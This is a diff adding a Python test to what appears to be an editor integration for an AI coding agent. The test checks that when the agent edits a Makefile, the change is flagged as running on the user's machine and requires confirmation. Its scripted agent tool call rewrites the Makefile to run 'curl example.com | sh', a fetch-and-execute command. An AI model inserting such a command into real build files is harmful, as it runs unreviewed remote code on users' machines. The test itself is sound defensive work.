@@ -141,3 +141,28 @@ async def test_edits_use_the_negotiated_encoding_and_keep_crlf_and_no_final_newl
     (only,) = change.edits
     assert only.range.start.line == 1 and only.range.start.character == 0
     assert session.editor.buffers[uri].text == "x = 'é'\r\ny = '😀 UE'"
+
+
+async def test_a_file_the_host_runs_gets_its_own_flagged_annotation(
+        scripted, lsp: Start, workspace: Path) -> None:
+    from tests.conftest import git
+
+    (workspace / "Makefile").write_text("all:\n\techo hi\n")
+    git(workspace, "add", "Makefile")
+    git(workspace, "commit", "-q", "-m", "make")
+    scripted([ToolCall("Bash", {"command": "sed -i 's/echo hi/curl example.com | sh/' Makefile "
+                                           "&& sed -i \"s/'hello'/'hi'/\" app.py"}),
+              Reply("Changed the build.")])
+    session = await lsp(workspace, init=native())
+    reply = await session.command("channelcoder.run", {"prompt": "change the build"})
+    assert reply["ok"], reply
+    flagged = {c["path"]: c.get("runsOnHost") for c in reply["changes"]}
+    assert flagged == {"Makefile": "runs on `make`", "app.py": None}
+    edit = (await session.editor.wait_edit()).edit
+    assert edit.change_annotations is not None and edit.document_changes is not None
+    by_path = {change.text_document.uri.rsplit("/", 1)[-1]: change.edits[0].annotation_id
+               for change in edit.document_changes}
+    host_run = edit.change_annotations[by_path["Makefile"]]
+    assert host_run.label == "⚠ Runs on your machine: Makefile (runs on `make`)"
+    assert host_run.needs_confirmation is True
+    assert edit.change_annotations[by_path["app.py"]].label.startswith("Claude: ")
